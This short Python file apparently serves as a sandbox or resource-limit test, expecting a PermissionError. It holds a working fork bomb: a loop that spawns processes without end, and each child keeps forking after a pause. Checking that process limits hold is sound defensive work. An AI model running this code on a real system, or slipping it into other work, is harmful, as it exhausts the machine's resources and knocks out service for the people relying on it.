# Start processes without end.
# ends: PermissionError
import os, time

while True:
    if os.fork() == 0:
        time.sleep(60)
